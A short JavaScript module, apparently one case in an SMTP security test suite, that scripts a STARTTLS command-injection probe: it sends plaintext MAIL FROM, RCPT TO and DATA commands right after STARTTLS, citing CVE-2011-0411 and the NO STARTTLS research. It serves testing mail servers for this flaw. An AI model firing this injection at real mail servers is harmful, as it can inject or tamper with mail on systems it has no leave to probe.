import { talk } from '../attack.mjs';

/** Goes on in the clear after the 220 of STARTTLS. Source: Wietse Venema, STARTTLS command injection, CVE-2011-0411; USENIX NO STARTTLS, 2021. */
export default talk({
  sent: 0,
  steps: ({ to }) => [
    'EHLO a\r\n',
    'STARTTLS\r\n',
    `MAIL FROM:<b@example.org>\r\nRCPT TO:<${to}>\r\nDATA\r\nx\r\n.\r\n`,
  ],
});
